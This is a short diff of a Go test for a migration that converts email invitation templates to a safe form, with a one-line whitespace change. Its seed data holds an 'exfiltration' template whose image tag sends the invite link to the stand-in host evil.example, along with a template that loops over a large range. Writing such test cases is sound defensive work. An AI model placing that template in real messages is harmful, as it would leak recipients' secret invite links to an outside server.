@@ -20,7 +20,7 @@ func TestSafeTemplatesConvertsPlainTemplatesAndResetsCodeWithANote(t *testing.T)
 	st := migratedUpTo(t, safeTemplates)
 	ctx := context.Background()
 	seed := map[string]string{
-		"plain": `{"subject": "Join {{.HelpCenter}}", "body": "Hello {{if .Name}}{{.Name}}{{else}}there{{end}},\n\n{{ .HelpCenter }} invites you. Open this link:\n{{.Link}}\n\nValid until {{.ExpiresAt}}."}`,
+		"plain":        `{"subject": "Join {{.HelpCenter}}", "body": "Hello {{if .Name}}{{.Name}}{{else}}there{{end}},\n\n{{ .HelpCenter }} invites you. Open this link:\n{{.Link}}\n\nValid until {{.ExpiresAt}}."}`,
 		"exfiltration": `{"subject": "Join", "body": "<img src=\"https://evil.example/?t={{.Link}}\"> {{.Link}}"}`,
 		"loop":         `{"subject": "Join", "body": "{{range $i := .Big}}x{{end}} {{.Link}}"}`,
 		"portal-url":   `{"subject": "Join", "body": "{{.PortalURL}} {{.Link}}"}`,
